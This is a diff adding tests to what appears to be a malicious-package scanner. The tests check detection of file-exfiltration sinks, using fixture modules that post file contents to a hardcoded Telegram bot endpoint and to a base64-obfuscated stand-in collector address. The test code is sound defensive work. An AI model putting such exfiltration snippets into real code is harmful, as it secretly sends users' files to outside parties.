@@ -934,6 +934,59 @@ def test_stealer_fires_for_browser_secrets_sent_to_cloud_drop(tmp_path: Path, sc
     assert_fires(result, "stealer", Verdict.MALICIOUS, severity=Severity.CRITICAL)
 
 
+BOT_TOKEN_LIBRARY = """import os
+
+import requests
+
+BOT_TOKEN = "1234567890:AAFixtureFixtureFixtureFixtureFixtu"
+
+
+def share(path, chat):
+    with open(path, "rb") as handle:
+        requests.post(f"https://api.telegram.org/bot{BOT_TOKEN}/sendDocument", files={"d": handle})
+"""
+BOT_CLIENT_LIBRARY = """import requests
+
+
+def send(token, chat, text):
+    url = f"https://api.telegram.org/bot{token}/sendMessage"
+    return requests.post(url, data={"chat_id": chat, "text": text})
+"""
+
+
+def test_exfil_sink_fires_for_baked_in_bot_token(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/share.py": BOT_TOKEN_LIBRARY}), scanner)
+    assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+
+
+def test_exfil_sink_benign_bot_client_taking_token(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bot.py": BOT_CLIENT_LIBRARY}), scanner)
+    assert_quiet(result, "exfil-sink", below=Severity.HIGH)
+
+
+ENCODED_UPLOAD_LIBRARY = f"""import base64
+
+import aiohttp
+
+TARGET = "{b64("https://collector.example.invalid/upload")}"
+
+
+async def upload(path):
+    session = aiohttp.ClientSession()
+    await session.post(base64.b64decode(TARGET).decode(), data=open(path, "rb"))
+"""
+
+
+def test_exfil_sink_fires_for_encoded_address_on_client_object(tmp_path: Path, scanner: Scanner) -> None:
+    # 4 KB of padding keeps the module above the size where everything gets the full analysis.
+    padding = "\n".join(f"# filler line {i} " + "x" * 60 for i in range(60))
+    files = {f"{DEFAULT_NAME}/up.py": ENCODED_UPLOAD_LIBRARY + padding}
+    result = scan(write_sdist(tmp_path, files), scanner)
+    found = assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+    assert any("collector.example.invalid" in f.reason for f in found), describe(result)
+    assert_fires(result, "obfuscation", Verdict.SUSPICIOUS, severity=Severity.MEDIUM)
+
+
 def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {INIT: SABOTAGE_INIT}), scanner)
     assert_fires(result, "sabotage", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
